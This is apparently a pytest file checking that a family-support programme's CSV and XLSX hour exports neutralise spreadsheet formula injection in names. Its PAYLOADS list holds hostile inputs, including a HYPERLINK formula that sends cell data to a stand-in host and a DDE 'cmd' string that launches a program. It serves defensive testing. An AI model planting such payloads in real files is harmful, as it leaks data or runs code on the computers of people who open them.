"""Names that a spreadsheet would run as formulas, or that XML cannot hold, in the real CSV and XLSX exports."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import update

from models import Family, Intervenant
from services.activity import export_csv, export_xlsx, monthly_activity
from services.spreadsheet_cells import text_cell
from tests.programme_fixture import programme  # noqa: F401 - fixture

PAYLOADS = (
    '=HYPERLINK("http://exemple.test/?d="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
MONTH = "2025-03"  # F1 (Nadia Benali) and F2 (Julien Morel) have held sessions


def _rename(programme, family_name: str, intervenant_name: str) -> None:
    with programme.uow() as w:
        w.session.execute(update(Family).where(Family.key == "F1").values(name=family_name))
        w.session.execute(update(Intervenant).where(Intervenant.key == "i-aes").values(name=intervenant_name))
        w.commit()


def _csv_text(path) -> str:
    with open(path, encoding="utf-8-sig", newline="") as f:  # the bytes' own line ends and carriage returns
        return f.read()


def _report(programme):
    return monthly_activity(programme.uow(), programme.coordinator, MONTH)


def _cells_holding(book, needle: str):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and needle in cell.value]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_export_writes_formula_like_names_as_quoted_text_never_as_formulas(programme, tmp_path, payload):
    _rename(programme, payload, payload)
    path = tmp_path / "heures.xlsx"
    export_xlsx(_report(programme), path)
    book = openpyxl.load_workbook(path)  # the real file, as a spreadsheet would read it
    formulas = [c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []
    holding = _cells_holding(book, payload.lstrip("\t\r"))
    # family and intervenant on the hours sheet, then each in its totals sheet
    assert len(holding) == 4
    # XML reads a carriage return back as a line feed: what matters is the apostrophe in front
    assert all(c.value == ("'" + payload).replace("\r", "\n") and c.data_type == "s" for c in holding)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_export_prefixes_formula_like_names_with_an_apostrophe(programme, tmp_path, payload):
    _rename(programme, payload, payload)
    path = tmp_path / "heures.csv"
    export_csv(_report(programme), path)
    rows = list(csv.reader(io.StringIO(_csv_text(path), newline=""), delimiter=";"))
    f1 = next(row for row in rows if row[1] == "F1")
    assert f1[2] == "'" + payload and f1[3] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_numbers_stay_typed_cells_in_the_xlsx_and_plain_numbers_in_the_csv(programme, tmp_path):
    _rename(programme, "-2+3", "=1+1")
    export_xlsx(_report(programme), tmp_path / "heures.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "heures.xlsx")["Heures"]
    f1 = next(row for row in sheet.iter_rows(min_row=3) if row[1].value == "F1")
    assert [c.value for c in f1[5:]] == [2, 120, 2.0] and all(c.data_type == "n" for c in f1[5:])
    export_csv(_report(programme), tmp_path / "heures.csv")
    text = _csv_text(tmp_path / "heures.csv")
    assert "F1;'-2+3;'=1+1;AES;2;120;2,00\r\n" in text
    assert text.endswith("Total;;;;;3;180;3,00\r\n")


def test_a_name_with_a_control_character_is_exported_with_a_replacement_mark(programme, tmp_path):
    _rename(programme, "Famille Du\x07pont", "Nadia\x1bBenali")
    export_xlsx(_report(programme), tmp_path / "heures.xlsx")  # openpyxl refused it: IllegalCharacterError
    book = openpyxl.load_workbook(tmp_path / "heures.xlsx")
    assert len(_cells_holding(book, "Famille Du\ufffdpont")) == 2
    assert len(_cells_holding(book, "Nadia\ufffdBenali")) == 2
    export_csv(_report(programme), tmp_path / "heures.csv")
    assert "Famille Du\ufffdpont;Nadia\ufffdBenali" in _csv_text(tmp_path / "heures.csv")


def test_text_cell_leaves_ordinary_names_alone():
    for name in ("Famille Lefèvre", "Jean-Marc N'Diaye", "O'Brien", "2 rue des Lilas", "Ligne\nsuivante"):
        assert text_cell(name) == name
